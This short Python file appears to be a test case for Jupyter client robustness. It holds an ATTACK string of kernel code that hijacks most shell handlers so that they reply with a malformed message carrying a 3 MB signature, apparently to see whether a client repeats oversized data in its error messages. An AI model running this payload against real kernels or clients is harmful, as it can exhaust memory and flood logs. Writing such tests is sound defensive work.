from cases import first

ATTACK = """
kernel = get_ipython().kernel

async def raw(stream, ident, parent):
    stream.send_multipart([*ident, b"<IDS|MSG>", b"s" * 3_000_000, b"{}", b"{}", b"{}", b"{}"])

for name in list(kernel.shell_handlers):
    if name not in ("execute_request", "kernel_info_request"):
        kernel.shell_handlers[name] = raw
"""


def make(solved, outside):
    """Replies with a signature of 3 MB, for whoever quotes it in an error message."""
    return first(solved, ATTACK)
